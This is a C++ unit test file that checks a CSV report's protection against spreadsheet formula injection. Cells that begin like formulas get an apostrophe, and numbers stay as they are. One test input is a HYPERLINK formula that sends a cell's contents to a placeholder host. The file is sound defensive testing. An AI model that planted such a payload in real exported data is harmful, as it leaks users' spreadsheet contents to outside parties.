// Formula injection (issue 10): text that a spreadsheet would run is
// neutralised in the CSV report; numbers, negative ones too, stay numbers.
#include <catch2/catch.hpp>

#include "report/report.hpp"
#include "report/spreadsheet_text.hpp"
#include "sample.hpp"

using namespace aser;
using report::neutralise_formula;

TEST_CASE("text starting like a formula gets an apostrophe", "[xlsx][csv]") {
  CHECK(neutralise_formula("=HYPERLINK(\"http://x\"&A1;\"x\")") ==
        "'=HYPERLINK(\"http://x\"&A1;\"x\")");
  CHECK(neutralise_formula("+1+1") == "'+1+1");
  CHECK(neutralise_formula("-1+1") == "'-1+1");
  CHECK(neutralise_formula("@SUM(1)") == "'@SUM(1)");
  CHECK(neutralise_formula("\tTAB") == "'\tTAB");
  CHECK(neutralise_formula("\rCR") == "'\rCR");
  CHECK(neutralise_formula("-") == "'-");
}

TEST_CASE("numbers and ordinary text are left alone", "[xlsx][csv]") {
  CHECK(neutralise_formula("-2.5") == "-2.5");
  CHECK(neutralise_formula("-2,5") == "-2,5");  // --decimal-comma
  CHECK(neutralise_formula("+3") == "+3");
  CHECK(neutralise_formula("-1e-3") == "-1e-3");
  CHECK(neutralise_formula("Atelier = Solidaire") == "Atelier = Solidaire");
  CHECK(neutralise_formula("") == "");
  CHECK(neutralise_formula("-2.") == "'-2.");  // not a plain number
}

TEST_CASE("the CSV report neutralises a supplier named like a formula", "[xlsx][csv]") {
  Grid grid = test::sample_grid("en");
  Evaluation evaluation = test::sample_evaluation();
  evaluation.lots[0].bids[0].supplier = "=1+1";
  evaluation.lots[0].bids[1].supplier = "-1+1";
  ReportOptions options;
  const std::string csv = render_csv(grid, evaluation, options);
  CHECK(csv.find(",'=1+1,") != std::string::npos);
  CHECK(csv.find(",'-1+1,") != std::string::npos);
  CHECK(csv.find(",=1+1,") == std::string::npos);
}
